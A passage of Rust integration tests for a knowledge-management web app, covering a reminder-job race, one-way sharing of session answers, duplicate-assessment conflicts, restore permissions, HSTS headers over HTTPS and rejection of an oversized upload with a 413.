    use signpost_domain::ports::{JobStore, LearningStore, MaturityStore};
    let t = TestApp::spawn(backend).await;
    let db = signpost_store::Db::connect(t.db.location("node").database.as_deref().unwrap()).await.unwrap();

    // An action closed while its reminder was on its way stays closed.
    let tomorrow = (Utc::now() + Duration::days(1)).date_naive().to_string();
    let (_, action) = t.post("alice", "/api/v1/actions", json!({ "title": "Audit the rota", "due_on": tomorrow })).await;
    let id = action["id"].as_i64().unwrap();
    let job = signpost_domain::jobs::NewJob::now("action_reminder", json!({ "action_id": id, "on": Utc::now().date_naive() }), "race");
    db.enqueue(&[job]).await.unwrap();
    let claimed = db.claim_job("node-a", Utc::now(), Utc::now() + Duration::minutes(5)).await.unwrap().unwrap();
    let (status, _) = t.post("alice", &format!("/api/v1/actions/{id}/close"), json!({ "status": "done", "outcome": "Done early" })).await;
    assert_eq!(status, StatusCode::OK);
    let audit = AuditRecord::new(None, "action.remind", "test");
    assert!(db.finish_action_reminder(claimed.id, "node-a", ActionId(id), Utc::now().date_naive(), audit.clone()).await.unwrap());
    let (_, after) = t.get("alice", &format!("/api/v1/actions/{id}")).await;
    assert_eq!(after["action"]["status"].as_str().or(after["status"].as_str()), Some("done"), "{after}");
    assert!(
        !db.finish_action_reminder(claimed.id, "node-b", ActionId(id), Utc::now().date_naive(), audit).await.unwrap(),
        "only the lease holder finishes"
    );

    // Sharing private answers is one-way, whatever copy a recorder saves afterwards.
    let (_, session) = t.post("alice", "/api/v1/sessions", json!({ "technique_key": "premortem", "participants": [t.users["bob"]] })).await;
    let sid = session["id"].as_i64().unwrap();
    let before_sharing = db.learning_session(SessionId(sid)).await.unwrap();
    assert_eq!(t.post("alice", &format!("/api/v1/sessions/{sid}/share"), json!({})).await.0, StatusCode::OK);
    let stale = signpost_domain::learning::Session { title: "Renamed".into(), ..before_sharing };
    let saved = db.save_learning_session(&stale, &[], AuditRecord::new(None, "session.update", "test")).await.unwrap();
    assert!(saved.shared && db.learning_session(SessionId(sid)).await.unwrap().shared, "a stale save cannot hide the answers again");

    // One assessment per team, model and day, held by a unique index.
    let ratings: Vec<Value> = ["Taking a strategic approach", "Leadership", "Building a learning organisation"]
        .iter()
        .map(|c| json!({ "category": c, "current": 2, "target": 3, "evidence": "" }))
        .collect();
    let assessment = json!({ "model_key": "nhs-km", "team_id": t.teams["Ward A"], "held_on": Utc::now().date_naive().to_string(), "facilitator": "alice",
        "participants": [], "actions": [], "ratings": ratings });
    let (status, recorded) = t.post("alice", "/api/v1/maturity/assessments", assessment).await;
    assert_eq!(status, StatusCode::CREATED, "{recorded}");
    let stored = db.assessments().await.unwrap().remove(0);
    let again =
        db.insert_assessments(&[signpost_domain::maturity::Assessment { id: 0, ..stored }], AuditRecord::new(None, "test", "twice")).await;
    assert!(matches!(again, Err(signpost_domain::StoreError::Conflict(_))), "{again:?}");
    db.close().await;

    // Restoring a version filed in a team the restorer cannot file in is refused.
    let (_, moved) = t.post("spec", "/api/v1/assets", common::lesson("Moved on", t.teams["Ward B"], "organisation", "published")).await;
    let aid = moved["id"].as_i64().unwrap();
    let mut to_a = common::lesson("Moved on", t.teams["Ward A"], "organisation", "published");
    to_a["expected_version"] = json!(1);
    assert_eq!(t.put("spec", &format!("/api/v1/assets/{aid}"), to_a).await.0, StatusCode::OK);
    let (status, err) = t.post("alice", &format!("/api/v1/assets/{aid}/restore"), json!({ "version": 1 })).await;
    assert_eq!((status, fields(&err)), (StatusCode::UNPROCESSABLE_ENTITY, vec!["version".to_string()]), "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pages_over_https_keep_to_https_and_an_oversized_upload_is_413() {
    let t = TestApp::spawn(Backend::Sqlite).await;
    let page = t.client.get(format!("{}/sign-in", t.base)).header("x-forwarded-proto", "https").send().await.unwrap();
    assert!(page.headers()["strict-transport-security"].to_str().unwrap().contains("max-age="));
    let plain = t.client.get(format!("{}/sign-in", t.base)).send().await.unwrap();
    assert!(plain.headers().get("strict-transport-security").is_none(), "not over plain HTTP");

    let spec = common::web::WebUser::sign_in(&t, "spec").await;
    let boundary = "signpostboundary";
    let mut body = format!("--{boundary}\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\n{}\r\n", spec.csrf).into_bytes();
    body.extend(format!("--{boundary}\r\nContent-Disposition: form-data; name=\"model_file\"; filename=\"big.yaml\"\r\n\r\n").as_bytes());
    body.extend(vec![b'a'; 3 * 1024 * 1024]);
    body.extend(format!("\r\n--{boundary}--\r\n").as_bytes());
    let res = spec
        .client
        .post(format!("{}/maturity/models", t.base))
        .header("cookie", &spec.cookie)
        .header("content-type", format!("multipart/form-data; boundary={boundary}"))
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert!(res.text().await.unwrap().contains("larger than the 2 MiB Signpost accepts"));
}
